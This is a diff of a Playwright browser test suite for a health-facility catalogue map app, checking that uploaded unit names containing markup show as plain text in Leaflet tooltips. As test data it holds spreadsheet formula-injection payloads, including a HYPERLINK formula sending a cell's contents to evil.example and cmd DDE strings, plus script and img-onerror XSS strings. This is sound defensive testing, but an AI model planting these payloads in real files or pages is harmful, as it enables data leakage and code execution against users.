@@ -21,7 +21,7 @@ import pytest
 import make_synthetic_clues
 from coverage import clues, exports, facility_maps, snapshot, tables
 from helpers import ROOT
-from helpers.browser import MAP_FRAME, assert_no_dialog, wait_for_states
+from helpers.browser import MAP_FRAME, assert_no_dialog, wait_for_states, wait_until_idle
 
 ARTIFACTS = ROOT / "test-artifacts"
 INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalle")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -168,10 +168,14 @@ def page_options():
 
 
 def open_uploader(page, url: str) -> None:
+    """Open the page and its uploader once the first run (the embedded national network) is over, so
+    the file is not handed to an uploader that the run's end re-renders."""
     page.goto(url)
     page.get_by_text("Catálogo CLUES: cargar o cambiar").first.wait_for(timeout=30_000)
+    wait_until_idle(page, timeout=60_000)
     assert_no_dialog(page)
     page.get_by_text("Catálogo CLUES: cargar o cambiar").first.click()
+    page.locator('[data-testid="stFileUploaderDropzoneInput"]').wait_for(state="attached", timeout=30_000)
 
 
 def upload(page, name: str, payload: bytes) -> None:
@@ -237,28 +241,36 @@ def test_an_upload_over_the_size_limit_is_refused_with_the_limit_stated(server, 
     loads_a_good_catalogue_afterwards(page)
 
 
+# Zoom to the hostile units and open every unit's tooltip the way a hover does (the cluster's
+# mouseover handler binds it, and Leaflet writes tooltip content as HTML: this is where unescaped
+# markup would run). Polled as one predicate because the map iframe is replaced while the upload's
+# reruns finish (the embedded network is on screen first): each poll starts again from whichever
+# iframe is there, and only the uploaded units' names make it true.
+OPEN_HOSTILE_TOOLTIPS = """needles => { const f = document.querySelector('%s'); const w = f && f.contentWindow;
+  if (!w || !w.map) return false;
+  const groups = []; w.map.eachLayer(l => { if (l._imssGroup) groups.push(l); });
+  if (!groups.length) return false;
+  if (w.__zoomedToHostile !== w.map) { w.map.setView([20.1031, -98.7571], 14, {animate: false});
+    w.__zoomedToHostile = w.map; return false; }
+  groups.forEach(l => l.getLayers().forEach(m => { if (w.map.getBounds().contains(m.getLatLng()))
+    l.fire('mouseover', {layer: m, latlng: m.getLatLng(), propagatedFrom: m}); }));
+  const texts = Array.from(w.document.querySelectorAll('.leaflet-tooltip'), t => t.textContent);
+  return needles.every(n => texts.some(t => t.includes(n))); }""" % MAP_FRAME
+
+
 @pytest.mark.browser
 def test_markup_in_a_unit_name_shows_as_text_in_its_tooltip(server, page):
     frame_data, _ = hostile(XSS)
     open_uploader(page, f"{server.url}/unidades?lang=es")
     upload(page, "ESTABLECIMIENTO_SALUD_202501.csv", csv_of(frame_data))
+    page.get_by_text("En pantalla: su catálogo CLUES").first.wait_for(timeout=60_000)
+    page.locator(MAP_FRAME).first.scroll_into_view_if_needed()
+    expected = ['<script>window.__pwned="script"</script>Unidad A', "<img src=x onerror="]
+    page.wait_for_function(OPEN_HOSTILE_TOOLTIPS, arg=expected, polling=300, timeout=60_000)
     map_frame = page.frame_locator(MAP_FRAME).first
-    map_frame.locator(".imss-cluster").first.wait_for(timeout=60_000)
-    page.evaluate("() => document.querySelector('%s').scrollIntoView()" % MAP_FRAME)
-    # a block body: setView returns the Leaflet map, which Playwright cannot serialise back
-    page.evaluate("() => { document.querySelector('%s').contentWindow.map.setView([20.1031, -98.7571], 14); }"
-                  % MAP_FRAME)
-    page.wait_for_timeout(800)
-    # open every unit's tooltip the way a hover does (the cluster's mouseover handler binds it, and
-    # Leaflet writes tooltip content as HTML: this is where unescaped markup would run)
-    page.evaluate("""() => { const w = document.querySelector('%s').contentWindow;
-      w.map.eachLayer(l => { if (!l._imssGroup) return;
-        l.getLayers().forEach(m => { if (w.map.getBounds().contains(m.getLatLng()))
-          l.fire('mouseover', {layer: m, latlng: m.getLatLng(), propagatedFrom: m}); }); }); }""" % MAP_FRAME)
-    for expected in ['<script>window.__pwned="script"</script>Unidad A', "<img src=x onerror="]:
-        tooltip = map_frame.locator(".leaflet-tooltip", has_text=expected).first
-        tooltip.wait_for(timeout=10_000)
-        assert expected in tooltip.inner_text()
+    for text in expected:
+        tooltip = map_frame.locator(".leaflet-tooltip", has_text=text).first
+        assert text in tooltip.inner_text(timeout=10_000)
         assert tooltip.locator("img, script").count() == 0
     page.screenshot(path=ARTIFACTS / "bad-markup-tooltip.png", full_page=False)
     pwned = page.evaluate("() => [window.__pwned, document.querySelector('%s').contentWindow.__pwned]" % MAP_FRAME)
